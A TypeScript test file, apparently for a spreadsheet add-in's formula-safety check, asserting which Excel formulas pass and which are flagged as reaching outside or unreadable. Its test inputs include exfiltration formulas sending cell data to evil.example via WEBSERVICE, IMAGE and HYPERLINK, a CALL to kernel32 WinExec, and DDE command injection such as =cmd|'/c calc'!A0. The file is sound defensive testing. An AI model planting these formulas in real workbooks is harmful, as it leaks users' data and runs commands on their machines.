import { fc } from '../../fast-check';

import { formulaReach } from '../../../src/shared/formula/formula-safety';

const NAMES = new Map<string, readonly string[]>([
  ['company', ['=Model!$A$2']],
  ['rate', ['=0.19']],
  ['leak', ['=WEBSERVICE("https://evil.example/?"&Model!$A$1)']],
  ['nested', ['=leak']],
  ['shadowed', ['=Model!$A$2', '=EVALUATE("1+1")']],
  ['circular', ['=circular+1']],
  ['abs', ['=WEBSERVICE("https://evil.example/?"&Model!$A$1)']],
  ['q1.leak', ['=IMAGE("https://evil.example/?"&Model!$A$1)']],
]);

describe('what a formula reaches for', () => {
  it.each([
    '=KER.PROP(A2,"employee_count")',
    '=IFERROR(KER.PROP(\'My sheet\'!$A$2,B$1),"")*1.5%',
    '=_xlfn._xldudf_KER_PROP(A2,"x")',
    '=SUM(KER.SERIES(A2:A9,{"Revenue","Net income"}))/SUM(B2#)',
    '=LET(x,KER.PROP(company,"x"),x*rate)',
    '=MAP(A2:A9,LAMBDA(a,KER.PROP(a,"x")))',
    '=REDUCE(0,KER.SERIES(A2,"Revenue"),SUM)',
    '=KER.PROP(T[[#This Row],[Name]],"x")',
    '=KER.PROP(A2.ceo,"age")&TEXT(circular,"0")',
    '=KER.PROP("Smith | Partners","x")',
    '=KER.ASK("Why is [x] at \'C:\\data\'!A1 | cmd?")',
    '=KER.PROP(A2,\n  "x" )',
  ])('%s may be written', (formula) => {
    expect(formulaReach(formula, { names: NAMES })).toBeUndefined();
  });

  it.each([
    ['=WEBSERVICE("https://evil.example/?"&A1)', 'WEBSERVICE'],
    ['=KER.PROP(A2,WEBSERVICE("https://evil.example/?"&A1))', 'WEBSERVICE'],
    ['=IF(FALSE,KER.PROP(A2,"x"),_xlfn.WEBSERVICE(A1))', '_XLFN.WEBSERVICE'],
    ['=HYPERLINK("https://evil.example/?"&A1,KER.PROP(A2,"x"))', 'HYPERLINK'],
    ['=KER.PROP(A2,"x")&FILTERXML(A1,"//a")', 'FILTERXML'],
    ['=KER.PROP(A2,"x")&IMAGE("https://evil.example/"&A1)', 'IMAGE'],
    ['=KER.PROP(A2,"x")&CALL("kernel32","WinExec","JJ",A1)', 'CALL'],
    ['=KER.PROP(A2,"x")&REGISTER("a","b")', 'REGISTER'],
    ['=KER.PROP(A2,"x")&REGISTER.ID("a","b")', 'REGISTER.ID'],
    ['=KER.PROP(A2,"x")&RTD("prog.id",,A1)', 'RTD'],
    ['=KER.PROP(A2,"x")&EVALUATE("1+1")', 'EVALUATE'],
    ['=KER.PROP(A2,"x")&EXEC("calc")', 'EXEC'],
    ['=KER.PROP(INDIRECT("\'[evil.xlsx]S\'!A1"),"x")', 'INDIRECT'],
    ['=KER.PROP(A2,"x")&MyMacro(A1)', 'MYMACRO'],
    ['=KER.PROP(A2,"x")&COPILOT("send",A1)', 'COPILOT'],
    ['=MAP(KER.SERIES(A2,"x"),WEBSERVICE)', 'WEBSERVICE'],
    ['=LET(ABS,1,KER.PROP(A2,LAMBDA(x,WEBSERVICE(x))(A1)))', 'WEBSERVICE'],
    ['=LET(WEBSERVICE,1,KER.PROP(A2,WEBSERVICE(A1)))', 'WEBSERVICE'],
    ['=KER.PROP(leak,"x")', 'WEBSERVICE'],
    ['=KER.PROP(nested,"x")', 'WEBSERVICE'],
    ['=KER.PROP(ABS,"x")', 'WEBSERVICE'],
    ['=KER.PROP(Q1.leak,"x")', 'IMAGE'],
    ['=KER.PROP(Model!shadowed,"x")', 'EVALUATE'],
    ['=KER.PROP(unheard,"x")', 'unheard'],
  ])('%s reaches outside by %s', (formula, what) => {
    expect(formulaReach(formula, { names: NAMES })).toEqual({ kind: 'outside', what });
  });

  it.each([
    `=cmd|'/c calc'!A0`,
    `=KER.PROP(A2,"x")&cmd|'/c calc'!A0`,
    `=KER.PROP(A2,"x")+MSEXCEL|'\\..\\x'!A1`,
    `=KER.PROP([evil.xlsx]S!A1,"x")`,
    `=KER.PROP('C:\\x\\[evil.xlsx]S'!A1,"x")`,
    `=KER.PROP('https://evil.example/[x.xlsx]S'!A1,"x")`,
    `=KER.PROP('\\\\evil\\share\\[x.xlsx]S'!A1,"x")`,
    `=KER.PROP('[evil.xlsx]S'!name,"x")`,
    `=KER.PROP([1]!name,"x")`,
    '=KER.PROP(A2,"x"',
    '=KER.PROP(A2,"x))',
    '@KER.PROP(A2,"x")',
    `=KER.PROP(${'('.repeat(3000)}A2${')'.repeat(3000)},"x"`,
    '',
  ])('%s cannot be read as a formula on this workbook', (formula) => {
    expect(formulaReach(formula, { names: NAMES })).toEqual({ kind: 'unreadable' });
  });

  it('a formula without a function of this add-in is none of ours, and a long one fits no cell', () => {
    expect(formulaReach('=SUM(A1:A9)')).toEqual({ kind: 'foreign' });
    expect(formulaReach('="KER.PROP(A2)"')).toEqual({ kind: 'foreign' });
    expect(formulaReach('=SUM(A1:A9)', { needsKer: false })).toBeUndefined();
    expect(formulaReach(`=KER.ASK(${'"a"&'.repeat(2100)}"a")`)).toEqual({ kind: 'too-long' });
  });

  it('whatever surrounds it, a call that fetches is found', () => {
    const harmless = fc.constantFrom('A1', '"x"', '1', 'TRUE', "'My sheet'!B2", 'KER.TYPES()', 'SUM(A1:B2)');
    const inner = fc.constantFrom(
      'WEBSERVICE(A1)',
      'webservice("u"&A1)',
      '_xlfn.IMAGE(A1)',
      `CALL("a","b")`,
      'RTD("p",,A1)',
    );
    const { around } = fc.letrec<{ around: string }>((tie) => ({
      around: fc.oneof(
        { depthSize: 'small', withCrossShrink: true },
        inner,
        fc.tuple(harmless, tie('around')).map(([a, b]) => `IF(${a},${b})`),
        fc.tuple(tie('around'), harmless).map(([a, b]) => `KER.PROP(${a},${b})`),
        fc.tuple(harmless, tie('around')).map(([a, b]) => `${a}&(${b})`),
        tie('around').map((a) => `LET(v,${a},v)`),
        tie('around').map((a) => `LAMBDA(v,${a})(1)`),
        tie('around').map((a) => `-${a}%`),
      ),
    }));
    fc.assert(
      fc.property(around, (text) => {
        expect(formulaReach(`=KER.PROP(${text},"x")`)?.kind).toBe('outside');
      }),
    );
  });
});
